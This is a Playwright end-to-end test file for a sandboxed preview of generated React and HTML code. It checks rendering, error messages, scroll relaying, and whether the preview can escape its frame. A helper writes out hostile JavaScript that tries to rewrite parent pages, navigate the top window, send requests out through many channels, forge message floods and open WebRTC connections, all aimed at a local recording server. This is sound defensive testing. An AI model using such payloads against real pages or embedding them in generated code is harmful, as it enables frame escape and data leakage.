"""The preview document in real Chromium: it renders each target, reports errors, and stays shut in.

A stdlib HTTP server on 127.0.0.1 stands in for the app: it serves ``static/vendor`` at
``/app/static/vendor/`` with the headers Streamlit's static serving sends, and the host pages the
tests build (``<iframe sandbox="allow-scripts" srcdoc=...>`` around ``preview_document``). A second
server only records requests: the isolation tests assert that it saw none.
"""

from __future__ import annotations

import html
import http.server
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest
from playwright.sync_api import ConsoleMessage, Frame, FrameLocator, Page, expect

from converters.preview import MAX_RELAYS, VENDOR_DIR, preview_document
from converters.targets import Target

pytestmark = pytest.mark.e2e

TIMEOUT_MS = 15_000
INDIGO = "rgb(79, 70, 229)"
HOST_TEXT = "Handoff host page"


class _Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    pages: dict[str, str]
    requests: list[str]


class _AppLikeHandler(http.server.BaseHTTPRequestHandler):
    """``/app/static/vendor/<file>`` from disk, like Streamlit's static serving; ``/host/<name>`` pages."""

    server: _Server

    def do_GET(self) -> None:
        self.server.requests.append(self.path)
        if self.path == "/favicon.ico":  # the host page's; a 404 would be a console error
            self._send(204, "image/x-icon", b"")
            return
        if self.path.startswith("/host/") and self.path in self.server.pages:
            self._send(200, "text/html; charset=utf-8", self.server.pages[self.path].encode())
            return
        name = self.path.removeprefix("/app/static/vendor/")
        file = VENDOR_DIR / name
        if name != self.path and "/" not in name and file.is_file():
            self._send(200, "text/javascript", file.read_bytes())
            return
        self._send(404, "text/plain", b"not found")

    def _send(self, status: int, content_type: str, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("X-Content-Type-Options", "nosniff")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:  # quiet: the test output stays readable
        pass


class _RecordingHandler(_AppLikeHandler):
    """Answers everything with 200 and records it: any request here is a leak."""

    def do_GET(self) -> None:
        self.server.requests.append(f"{self.command} {self.path}")
        self._send(200, "text/html", b"<p>leaked</p>")

    do_POST = do_GET
    do_HEAD = do_GET


@dataclass
class LocalServer:
    """A server thread on a free port of 127.0.0.1."""

    handler: type[http.server.BaseHTTPRequestHandler]
    server: _Server = field(init=False)

    def __enter__(self) -> LocalServer:
        self.server = _Server(("127.0.0.1", 0), self.handler)
        self.server.pages = {}
        self.server.requests = []
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    @property
    def requests(self) -> list[str]:
        return self.server.requests


@pytest.fixture(scope="module")
def app_like() -> Iterator[LocalServer]:
    with LocalServer(_AppLikeHandler) as server:
        yield server


@pytest.fixture
def recorder() -> Iterator[LocalServer]:
    with LocalServer(_RecordingHandler) as server:
        yield server


@pytest.fixture
def console_errors(page: Page) -> list[str]:
    """Console errors from any frame (CSP violations included), as text."""
    errors: list[str] = []

    def keep(message: ConsoleMessage) -> None:
        if message.type == "error":
            errors.append(message.text)

    page.on("console", keep)
    return errors


@dataclass
class Preview:
    """A host page showing one preview; ``inner`` reaches into the untrusted document."""

    page: Page

    @property
    def outer(self) -> FrameLocator:
        return self.page.frame_locator("#level1")

    @property
    def inner(self) -> FrameLocator:
        return self.outer.frame_locator("#preview")

    def inner_frame(self) -> Frame:
        """The untrusted document's frame, for ``evaluate`` in its own context."""
        outer = self.page.locator("#level1").element_handle().content_frame()
        assert outer is not None
        inner = outer.locator("#preview").element_handle().content_frame()
        assert inner is not None
        return inner

    def statuses(self) -> list[dict[str, Any]]:
        result: list[dict[str, Any]] = self.page.evaluate("window.statuses")
        return result

    def wait_for_state(self, state: str) -> dict[str, Any]:
        """The first relayed status with ``state``, waiting for it."""
        self.page.wait_for_function(
            "state => window.statuses.some(s => s.state === state)", arg=state, timeout=TIMEOUT_MS
        )
        return next(s for s in self.statuses() if s["state"] == state)


def show(page: Page, app_like: LocalServer, code: str, target: Target, *, live: bool = False) -> Preview:
    """Open a host page, like the app's, with the preview of ``code`` in a sandboxed srcdoc frame."""
    document = preview_document(code, target, f"{app_like.url}/app/static/vendor", live=live)
    # The listener is registered before the frame exists and counts only the frame's own messages.
    host = (
        f"<!DOCTYPE html><html><head><title>host</title></head><body><h1 id='host'>{HOST_TEXT}</h1>"
        "<script>window.statuses = []; window.scrolls = []; window.foreign = 0;"
        "addEventListener('message', function (e) {"
        "  if (e.source !== document.getElementById('level1').contentWindow) { window.foreign += 1; return; }"
        "  const to = e.data && e.data.handoff === 'scroll' ? window.scrolls : window.statuses;"
        "  to.push(e.data); });</script>"
        f'<iframe id="level1" sandbox="allow-scripts" style="width:900px;height:600px;border:0"'
        f' srcdoc="{html.escape(document, quote=True)}"></iframe></body></html>'
    )
    path = f"/host/{len(app_like.server.pages)}"
    app_like.server.pages[path] = host
    page.goto(app_like.url + path)
    return Preview(page)


COUNTER = """
import React, { useState } from 'react';

export default function App() {
  const [count, setCount] = useState(0);
  return (
    <main className="p-8">
      <button id="cta" className="bg-[#4f46e5] text-white px-4 py-2 rounded"
              onClick={() => setCount(count + 1)}>
        Clicked {count} times
      </button>
    </main>
  );
}
"""

ARROW_EXPORT = """
import { useState } from 'react';
const App = () => {
  const [name] = useState('Ada');
  return <h1 id="title" className="text-[#4f46e5] text-3xl font-bold">Hello {name}</h1>;
};
export default App;
"""

TSX = """
import React, { useState, type ReactNode } from 'react';

interface CardProps { title: string; children?: ReactNode }
type Tone = 'indigo' | 'gray';

function Card({ title, children }: CardProps): JSX.Element {
  const [tone] = useState<Tone>('indigo');
  return (
    <section id="card" className={tone === 'indigo' ? 'bg-[#4f46e5] p-4' : 'bg-gray-100'}>
      <h2>{title}</h2>
      {children}
    </section>
  );
}

export default function App() {
  const items: Array<string> = ['one', 'two'];
  return <Card title="Typed card">{items.map((item) => <p key={item}>{item as string}</p>)}</Card>;
}
"""


def test_react_component_with_state_renders_with_tailwind_styles(
    page: Page, app_like: LocalServer, console_errors: list[str]
) -> None:
    preview = show(page, app_like, COUNTER, Target.REACT_TAILWIND)
    preview.wait_for_state("rendered")
    button = preview.inner.locator("#cta")
    expect(button).to_have_text("Clicked 0 times")
    assert button.evaluate("el => getComputedStyle(el).backgroundColor") == INDIGO
    assert button.evaluate("el => getComputedStyle(el).color") == "rgb(255, 255, 255)"
    button.click()
    expect(button).to_have_text("Clicked 1 times")
    expect(preview.outer.locator("#problem")).to_be_hidden()
    assert [s["state"] for s in preview.statuses()] == ["rendered"]
    assert console_errors == []


@pytest.mark.parametrize(
    ("code", "selector", "text"), [(ARROW_EXPORT, "#title", "Hello Ada"), (TSX, "#card", "Typed card")]
)
def test_react_export_styles_and_typescript_render(
    page: Page, app_like: LocalServer, console_errors: list[str], code: str, selector: str, text: str
) -> None:
    preview = show(page, app_like, code, Target.REACT_TAILWIND)
    preview.wait_for_state("rendered")
    element = preview.inner.locator(selector)
    expect(element).to_contain_text(text)
    colors = element.evaluate("el => [getComputedStyle(el).color, getComputedStyle(el).backgroundColor]")
    assert INDIGO in colors
    assert console_errors == []


def test_react_syntax_error_is_shown_with_its_line_and_posted(page: Page, app_like: LocalServer) -> None:
    code = "export default function App() {\n  return <div className='p-4'>\n    <p>unclosed\n  );\n}\n"
    preview = show(page, app_like, code, Target.REACT_TAILWIND)
    status = preview.wait_for_state("error")
    assert status["message"].startswith("Syntax error at line ")
    overlay = preview.outer.locator("#problem")
    expect(overlay).to_be_visible()
    expect(overlay).to_have_class("fatal")  # nothing was drawn: the message covers the frame
    expect(preview.outer.locator("#problem-text")).to_have_text(status["message"])
    expect(preview.inner.locator("#root pre")).to_contain_text("Syntax error at line")
    assert "rendered" not in [s["state"] for s in preview.statuses()]


def test_react_runtime_error_is_shown_readably(page: Page, app_like: LocalServer) -> None:
    code = (
        "export default function App() {\n"
        "  const user: any = undefined;\n"
        "  if (!user) throw new Error('profile failed to load');\n"
        "  return <p>never</p>;\n"
        "}\n"
    )
    preview = show(page, app_like, code, Target.REACT_TAILWIND)
    status = preview.wait_for_state("error")
    assert status["message"] == "Error: profile failed to load (line 3)"
    expect(preview.outer.locator("#problem-text")).to_have_text(status["message"])
    expect(preview.inner.locator("#root pre")).to_have_text(status["message"])


def test_react_event_handler_error_is_shown_with_its_line(page: Page, app_like: LocalServer) -> None:
    code = (
        "export default function App() {\n"
        "  const save = () => { throw new Error('save failed'); };\n"
        "  return <button id='save' onClick={save}>Save</button>;\n"
        "}\n"
    )
    preview = show(page, app_like, code, Target.REACT_TAILWIND)
    preview.wait_for_state("rendered")
    preview.inner.locator("#save").click()
    # Not "Script error.": the runtime is loaded in CORS mode, so errors keep their text and stack.
    assert preview.wait_for_state("error")["message"] == "Error: save failed (line 2)"
    expect(preview.outer.locator("#problem")).to_be_visible()


def test_react_import_of_an_unavailable_package_says_so(page: Page, app_like: LocalServer) -> None:
    code = (
        "import { Camera } from 'lucide-react';\n"
        "export default function App() { return <Camera className='w-4 h-4' />; }\n"
    )
    preview = show(page, app_like, code, Target.REACT_TAILWIND)
    status = preview.wait_for_state("error")
    assert "The preview can only import from react; 'lucide-react' is not available." in status["message"]
    expect(preview.outer.locator("#problem-text")).to_contain_text("'lucide-react' is not available")


def test_react_code_without_default_export_says_what_to_add(page: Page, app_like: LocalServer) -> None:
    preview = show(page, app_like, "const x = 1;\n", Target.REACT_TAILWIND)
    status = preview.wait_for_state("error")
    assert "export default function App()" in status["message"]


def test_live_incomplete_react_code_posts_incomplete_and_shows_nothing(
    page: Page, app_like: LocalServer
) -> None:
    code = "export default function App() {\n  return <div className='p-4'>Hal"
    preview = show(page, app_like, code, Target.REACT_TAILWIND, live=True)
    status = preview.wait_for_state("incomplete")
    assert status["message"].startswith("Syntax error")
    expect(preview.outer.locator("#problem")).to_be_hidden()
    expect(preview.inner.locator("#root")).to_be_empty()
    assert {s["state"] for s in preview.statuses()} == {"incomplete"}


def test_html_css_renders_with_its_styles(
    page: Page, app_like: LocalServer, console_errors: list[str]
) -> None:
    code = (
        "<!DOCTYPE html>\n<html lang='en'>\n<head>\n<title>Card</title>\n"
        "<style>.card { color: rgb(12, 34, 56); padding: 24px; display: flex; }</style>\n</head>\n"
        "<body>\n<section class='card'><h1>Pricing</h1></section>\n</body>\n</html>\n"
    )
    preview = show(page, app_like, code, Target.HTML_CSS)
    preview.wait_for_state("rendered")
    card = preview.inner.locator(".card")
    expect(card).to_have_text("Pricing")
    assert card.evaluate("el => [getComputedStyle(el).color, getComputedStyle(el).paddingTop]") == [
        "rgb(12, 34, 56)",
        "24px",
    ]
    assert console_errors == []


@pytest.mark.parametrize(
    ("code", "where"),
    [
        (
            "<!DOCTYPE html>\n<html>\n<head>\n</head>\n<body>\n<p>ok</p>\n<script>\nmissing();\n</script>\n",
            "line 8, column 1",
        ),
        # One line: the reporter was injected on it, so the browser's column would be off; left out.
        ("<html><body><p>ok</p><script>missing();</script></body></html>", "line 1"),
    ],
)
def test_html_script_error_is_reported_with_the_model_documents_line(
    page: Page, app_like: LocalServer, code: str, where: str
) -> None:
    preview = show(page, app_like, code, Target.HTML_CSS)
    status = preview.wait_for_state("error")
    assert status["message"] == f"ReferenceError: missing is not defined ({where})"
    preview.wait_for_state("rendered")  # the page itself still drew
    expect(preview.inner.locator("p")).to_have_text("ok")
    expect(preview.outer.locator("#problem")).to_be_visible()
    expect(preview.outer.locator("#problem")).not_to_have_class("fatal")


def test_html_tailwind_gets_tailwind_styles(
    page: Page, app_like: LocalServer, console_errors: list[str]
) -> None:
    code = (
        "<html><body><header class='bg-[#4f46e5] p-4 flex gap-2'>"
        "<a id='link' class='text-white font-bold'>Home</a></header></body></html>"
    )
    preview = show(page, app_like, code, Target.HTML_TAILWIND)
    preview.wait_for_state("rendered")
    header = preview.inner.locator("header")
    # Styles are generated by the time "rendered" is posted: no waiting here.
    assert header.evaluate("el => [getComputedStyle(el).backgroundColor, getComputedStyle(el).padding]") == [
        INDIGO,
        "16px",
    ]
    assert preview.inner.locator("#link").evaluate("el => getComputedStyle(el).fontWeight") == "700"
    assert console_errors == []


def test_a_missing_runtime_is_reported_not_a_blank_frame(page: Page, app_like: LocalServer) -> None:
    document = preview_document(COUNTER, Target.REACT_TAILWIND, f"{app_like.url}/app/static/nothing-here")
    app_like.server.pages["/host/missing"] = (
        "<!DOCTYPE html><body><script>window.statuses = [];"
        "addEventListener('message', e => window.statuses.push(e.data));</script>"
        f'<iframe id="level1" sandbox="allow-scripts" srcdoc="{html.escape(document, quote=True)}"></iframe>'
    )
    page.goto(app_like.url + "/host/missing")
    preview = Preview(page)
    status = preview.wait_for_state("error")
    assert status["message"].startswith("The preview runtime could not be loaded from ")
    expect(preview.outer.locator("#problem-text")).to_contain_text("enableStaticServing")


def _attack(leak: str) -> str:
    """JavaScript that tries to reach the app page and the network in every way a model's code might."""
    return f"""
    var tried = [];
    function attempt(name, action) {{
      try {{ action(); tried.push(name + ': done'); }} catch (e) {{ tried.push(name + ': ' + e.name); }}
    }}
    attempt('top', function () {{ window.top.document.body.innerHTML = 'pwned'; }});
    attempt('parent', function () {{ parent.document.body.innerHTML = 'pwned'; }});
    attempt('top navigation', function () {{ window.top.location.href = '{leak}/navigate-top'; }});
    new Image().src = '{leak}/image';
    try {{ navigator.sendBeacon('{leak}/beacon', 'x'); }} catch (e) {{ }}
    try {{ new WebSocket('{leak.replace("http", "ws")}/socket'); }} catch (e) {{ }}
    try {{ new EventSource('{leak}/events'); }} catch (e) {{ }}
    var link = document.createElement('link'); link.rel = 'stylesheet'; link.href = '{leak}/style.css';
    document.head.appendChild(link);
    var frame = document.createElement('iframe');
    frame.src = '{leak}/frame'; document.body.appendChild(frame);
    var data = document.createElement('iframe');
    data.src = 'data:text/html,<img src="{leak}/data-frame-image">'; document.body.appendChild(data);
    for (var i = 0; i < 5000; i++) {{
      parent.postMessage({{ handoff: 'status', state: 'error', message: 'flood ' + i }}, '*');
      window.top.postMessage({{ handoff: 'status', state: 'rendered', message: 'forged ' + i }}, '*');
    }}
    fetch('{leak}/fetch').then(
      function () {{ tried.push('fetch: answered'); }},
      function (e) {{ tried.push('fetch: ' + e.name); }}
    ).then(function () {{ document.title = 'done'; window.tried = tried; }});
    """


@pytest.mark.parametrize("target", [Target.HTML_CSS, Target.REACT_TAILWIND])
def test_generated_code_cannot_touch_the_app_page_or_the_network(
    page: Page, app_like: LocalServer, recorder: LocalServer, target: Target
) -> None:
    attack = _attack(recorder.url)
    if target is Target.HTML_CSS:
        code = f"<!DOCTYPE html><html><head></head><body><p id='p'>page</p><script>{attack}</script></body>"
    else:
        code = (
            "import { useEffect } from 'react';\n"
            "export default function App() {\n"
            f"  useEffect(() => {{ {attack} }}, []);\n"
            "  return <p id='p'>page</p>;\n}\n"
        )
    preview = show(page, app_like, code, target)
    expect(preview.inner.locator("#p")).to_have_text("page")
    inner_frame = preview.inner_frame()
    inner_frame.wait_for_function("document.title === 'done'", timeout=TIMEOUT_MS)
    tried: list[str] = inner_frame.evaluate("window.tried")
    assert "top: SecurityError" in tried and "parent: SecurityError" in tried
    assert "fetch: TypeError" in tried
    page.wait_for_timeout(300)  # give any request that slipped through time to arrive
    expect(page.locator("#host")).to_have_text(HOST_TEXT)
    assert page.url.startswith(app_like.url + "/host/")
    assert recorder.requests == []
    assert len(preview.statuses()) <= MAX_RELAYS
    assert page.evaluate("window.foreign") >= 5000  # forged messages arrived, the source check ignored them


def test_generated_code_cannot_navigate_its_frame_to_a_server(
    page: Page, app_like: LocalServer, recorder: LocalServer
) -> None:
    # The sandbox lets a frame navigate itself; level 1's frame-src 'none' is what stops it here.
    code = f"<p>page</p><script>setTimeout(() => {{ location.href = '{recorder.url}/nav'; }}, 0);</script>"
    with page.expect_console_message(lambda m: "frame-src" in m.text, timeout=TIMEOUT_MS):
        show(page, app_like, code, Target.HTML_CSS)
    page.wait_for_timeout(300)  # give a request that slipped through time to arrive
    assert recorder.requests == []
    expect(page.locator("#host")).to_have_text(HOST_TEXT)


def test_generated_code_cannot_open_a_webrtc_connection(page: Page, app_like: LocalServer) -> None:
    # The policy does not cover WebRTC in Chromium; the preview removes RTCPeerConnection instead.
    connections: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.1)
        port = listener.getsockname()[1]
        code = (
            "<p>page</p><script>"
            f"var pc = new RTCPeerConnection({{iceServers: [{{urls: 'turn:127.0.0.1:{port}?transport=tcp',"
            " username: 'u', credential: 'c'}]});"
            "pc.createDataChannel('d'); pc.createOffer().then(function (o) { pc.setLocalDescription(o); });"
            "</script>"
        )
        preview = show(page, app_like, code, Target.HTML_CSS)
        status = preview.wait_for_state("error")
        assert status["message"].startswith("ReferenceError: RTCPeerConnection is not defined")
        page.wait_for_timeout(300)  # give a connection that slipped through time to arrive
        try:
            connection, _ = listener.accept()
            connections.append(connection.recv(100))
            connection.close()
        except TimeoutError:
            pass
    assert connections == []


def test_the_preview_reports_its_scroll_position_and_scrolls_when_told(
    page: Page, app_like: LocalServer
) -> None:
    tall = "".join(f"<section style='height:400px'><h2>Part {n}</h2></section>" for n in range(10))
    preview = show(page, app_like, f"<!DOCTYPE html><html><body>{tall}</body></html>", Target.HTML_CSS)
    preview.wait_for_state("rendered")
    page.wait_for_function("() => window.scrolls.length > 0", timeout=TIMEOUT_MS)
    first = page.evaluate("window.scrolls[0]")
    assert first["y"] == 0 and first["height"] >= 4000 and first["view"] == 600  # reported once drawn
    # The host asks level 1, level 1 passes it down, the page scrolls and reports where it is.
    page.evaluate(
        "document.getElementById('level1').contentWindow"
        ".postMessage({handoff: 'scroll-to', x: 0, y: 1234}, '*')"
    )
    page.wait_for_function("() => window.scrolls.some(s => s.y === 1234)", timeout=TIMEOUT_MS)
    assert preview.inner_frame().evaluate("scrollY") == 1234
    # What the untrusted page claims arrives as plain, bounded numbers, at most one a frame.
    preview.inner_frame().evaluate(
        "() => { for (let i = 0; i < 500; i++) parent.postMessage("
        "{handoff: 'scroll', x: -5, y: 'x', height: 1e12, view: 3, extra: '<b>'}, '*'); }"
    )
    page.wait_for_function("() => window.scrolls.some(s => s.height === 1e7)", timeout=TIMEOUT_MS)
    claimed = page.evaluate("window.scrolls[window.scrolls.length - 1]")
    assert claimed == {"handoff": "scroll", "x": 0, "y": 0, "height": 1e7, "view": 3, "seq": 0}
    assert len(page.evaluate("window.scrolls")) < 100  # 500 posted in one task: passed on once per frame
    assert all(status["handoff"] == "status" for status in preview.statuses())
